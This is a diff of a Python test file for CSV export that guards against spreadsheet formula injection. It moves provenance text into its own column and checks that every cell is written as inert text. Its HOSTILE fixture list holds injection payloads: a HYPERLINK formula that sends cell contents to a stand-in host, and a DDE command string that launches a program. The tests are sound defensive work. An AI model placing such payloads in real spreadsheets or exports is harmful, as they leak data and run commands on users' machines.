@@ -20,9 +20,7 @@ HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"go")', "+cmd|' /C calc'!A0", "-2+3"
 
 
 def cells(text: str) -> list[list[str]]:
-    """The rows of a CSV written by the product, comment lines left out."""
-    while text.startswith("#"):
-        text = text.split("\r\n", 1)[1]
+    """The rows of a CSV written by the product."""
     return list(csv.reader(io.StringIO(text, newline="")))
 
 
@@ -35,10 +33,11 @@ def evaluated(cell: str) -> bool:
 @given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n,\"'abc1.e "), max_size=12), min_size=1, max_size=8))
 def test_no_text_cell_is_evaluated_and_each_reads_back(values: list[str]) -> None:
     frame = pd.DataFrame({"story": values, "score": np.linspace(-1, 1, len(values))})
-    rows = cells(frame_csv(frame, ["a description\n=1+1 on a second line"]))
-    assert rows[0] == ["story", "score"]
-    for (story, score), value in zip(rows[1:], values, strict=True):
-        assert not evaluated(story) and not evaluated(score)
+    rows = cells(frame_csv(frame, ["=1+1 a description\non a second line"]))
+    assert rows[0] == ["story", "score", "provenance"]
+    for (story, score, about), value in zip(rows[1:], values, strict=True):
+        assert not evaluated(story) and not evaluated(score) and not evaluated(about)
+        assert about == "'=1+1 a description on a second line"  # what produced it, beside the numbers, as text
         assert (story[1:] if story != value else story) == value  # the apostrophe is the only change
     assert [float(r[1]) for r in rows[1:]] == list(np.linspace(-1, 1, len(values)))  # numbers unchanged
 
@@ -98,5 +97,6 @@ def test_dashboard_exports_carry_no_formula() -> None:
 
     table = pd.DataFrame({"story": HOSTILE, "system": ["@m"] * len(HOSTILE), "NR": np.arange(len(HOSTILE)) - 2.5})
     text = export_csv(table, Settings())
-    assert text.startswith("# ") and "signature" in text.splitlines()[1]
+    header = next(csv.reader(io.StringIO(text, newline="")))
+    assert header[-1] == "provenance" and "signature" in cells(text)[1][-1]
     assert [c for row in cells(text) for c in row if evaluated(c)] == []
